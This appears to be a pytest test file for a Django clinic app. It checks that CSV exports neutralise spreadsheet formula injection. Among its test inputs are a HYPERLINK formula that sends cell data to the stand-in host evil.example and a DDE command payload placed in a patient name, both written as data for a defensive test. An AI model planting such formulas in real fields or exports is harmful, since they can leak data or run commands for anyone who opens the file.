"""No CSV the clinic writes holds a cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from django.test import Client
from django.urls import reverse

from ketaclinic.exports import csv_lines, safe_cell
from tests.conftest import make_patient

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
SOURCE = Path(__file__).resolve().parent.parent / "src" / "ketaclinic"


@pytest.mark.parametrize(
    "text", ["=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", HYPERLINK]
)
def test_a_cell_that_would_run_is_written_as_text(text):
    assert safe_cell(text) == "'" + text
    line = "".join(csv_lines(["a"], [[text]]))
    assert next(csv.reader(io.StringIO(line.split("\r\n", 1)[1])))[0] == "'" + text


@pytest.mark.parametrize("value", ["Lovelace", "1980-05-17", "2001:db8::1", 42, ""])
def test_other_cells_are_left_as_they_are(value):
    assert safe_cell(value) == str(value)
    assert safe_cell(None) == ""


def test_every_csv_of_the_app_goes_through_the_one_writer():
    writers = [
        path.relative_to(SOURCE).as_posix()
        for path in SOURCE.rglob("*.py")
        if re.search(r"\bcsv\.(writer|DictWriter)\(", path.read_text())
    ]
    assert writers == ["exports.py"]


def exported(client: Client) -> list[dict]:
    response = client.get(reverse("audit:export"))
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(body)))


def test_a_failed_sign_in_reaches_the_audit_export_as_text(world, as_role):
    Client().post(reverse("accounts:login"), {"username": HYPERLINK, "password": "x"})
    users = [row["user"] for row in exported(as_role("manager"))]
    assert "'" + HYPERLINK in users
    assert HYPERLINK not in users


def test_a_patient_name_typed_by_staff_reaches_the_export_as_text(world, as_role):
    patient = make_patient(world.home, last_name="=cmd|' /C calc'!A0", first_name="X")
    as_role("nurse").get(reverse("patients:chart", args=[patient.uuid]))
    names = [row["patient"] for row in exported(as_role("manager")) if row["patient"]]
    assert "'=cmd|' /C calc'!A0, X" in names
    assert not [name for name in names if name.startswith(("=", "+", "-", "@"))]
